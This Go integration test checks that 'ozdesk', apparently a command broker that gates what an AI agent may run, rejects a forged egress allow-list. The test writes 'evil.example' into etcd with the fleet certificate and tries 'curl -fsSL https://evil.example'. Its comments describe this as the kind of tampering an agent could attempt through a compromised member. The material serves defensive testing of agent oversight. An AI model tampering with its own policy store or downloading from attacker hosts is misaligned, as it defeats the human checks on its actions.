package main

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"ozdesk.dev/ozdesk/internal/etcdtest"
)

// TestFleetForgedEgressIgnored: a host put on the egress list around
// ozdesk (through the fleet's certificate, as a member opened for a
// moment would let an agent) is not believed: the broker takes the list
// as empty, so a download from the forged host, and from a genuine one,
// is not allowed by a rule pinned to [egress]; it says so in its log and
// the trail, and 'audit verify' names the egress list; 'policy egress
// list' marks the hosts not in effect, and 'policy export' leaves them
// out.
func TestFleetForgedEgressIgnored(t *testing.T) {
	t.Parallel() // its own cluster, accounts, nodes and ports: its waits overlap the other tests'
	needRoot(t)
	cluster := etcdtest.StartTLS(t, 3)
	brokerAcct := makeAccount(t, "ozfebroker")
	alice := makeAccount(t, "ozfealice")
	agent := makeAccount(t, "ozfeagent")
	ops := fmt.Sprintf("operators:\n  - {user: %s, role: admin}\n", alice.name)
	n := newFleetNode(t, buildTool(t, ".", "ozdesk"), brokerAcct, ops, cluster, "n1")
	if r := brokerAcct.run(n.bin, "", "--config", n.config, "serve", "--init"); r.code != 0 {
		t.Fatalf("serve --init: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	n.start(t)
	for _, args := range [][]string{
		{"policy", "set", "fallback", "ask"},
		{"policy", "egress", "add", "get.k3s.io", "--reason", "k3s installer"},
		{"policy", "allow", "curl -fsSL [egress]", "--reason", "pinned", "--ends", "7d"},
	} {
		if r := n.ozdesk(alice, "", args...); r.code != 0 {
			t.Fatalf("%s: exit %d\n%s%s", args, r.code, r.stdout, r.stderr)
		}
	}
	const genuine, forgedHost = "curl -fsSL https://get.k3s.io", "curl -fsSL https://evil.example"
	if r := n.ozdesk(agent, "", "ask", "--wait", "30s", "--", genuine); r.code != 0 {
		t.Fatalf("%s before the forgery: exit %d, want it allowed\n%s%s", genuine, r.code, r.stdout, r.stderr)
	}
	if r := n.ozdesk(alice, "", "audit", "verify"); r.code != 0 {
		t.Fatalf("audit verify before the forgery: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	cli := certClient(t, cluster)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	const key = "fleet/k/egress/evil.example"
	host, _ := json.Marshal(map[string]any{"host": "evil.example", "added_by": alice.name, "added": time.Now().UTC(), "reason": "forged"})
	if _, err := cli.Put(ctx, key, string(host)); err != nil {
		t.Fatalf("the forger writes %s: %v", key, err)
	}
	// The list shows what is stored, each host not in effect marked so
	// (rt20g #6), and an export carries only what is in effect: none of
	// the list, which is not believed whole.
	r := n.ozdesk(alice, "", "policy", "egress", "list")
	for _, line := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(line, "evil.example ") && !strings.Contains(line, "FORGED: not in effect") ||
			strings.HasPrefix(line, "get.k3s.io ") && !strings.Contains(line, "not in effect") {
			t.Errorf("policy egress list shows a host not in effect unmarked: %q\n%s%s", line, r.stdout, r.stderr)
		}
	}
	if !strings.Contains(r.stdout, "evil.example") {
		t.Fatalf("the forged host is not in the store as the forger meant it: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := n.ozdesk(alice, "", "policy", "export"); r.code != 0 || strings.Contains(r.stdout, "evil.example") || strings.Contains(r.stdout, "get.k3s.io") {
		t.Errorf("policy export carries an egress list not in effect: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	for _, cmd := range []string{forgedHost, genuine} {
		if r := n.ozdesk(agent, "", "ask", "--wait", "1s", "--", cmd); r.code == 0 {
			t.Errorf("%s allowed by an egress list no audit entry wrote: exit 0\n%s%s", cmd, r.stdout, r.stderr)
		}
	}
	waitFor(t, 10*time.Second, "the broker's log to say the egress list was ignored", func() bool {
		return strings.Contains(n.serveLog.String(), "forged egress list ignored")
	})
	waitFor(t, 10*time.Second, "an egress.forged entry", func() bool {
		return strings.Contains(n.ozdesk(alice, "", "audit", "--json").stdout, `"egress.forged"`)
	})
	r = n.ozdesk(alice, "", "audit", "verify")
	if r.code != exitAuditBroke || !strings.Contains(r.stderr+r.stdout, "the egress list is not as the audit trail wrote it") {
		t.Errorf("audit verify after the egress list was forged: exit %d, want %d naming the egress list\n%s%s", r.code, exitAuditBroke, r.stdout, r.stderr)
	}
}

// waitFor polls ok every 100 ms until it holds, failing the test after
// within, naming what it waited for.
func waitFor(t *testing.T, within time.Duration, what string, ok func() bool) {
	t.Helper()
	for end := time.Now().Add(within); !ok(); time.Sleep(100 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("waited %s for %s", within, what)
		}
	}
}
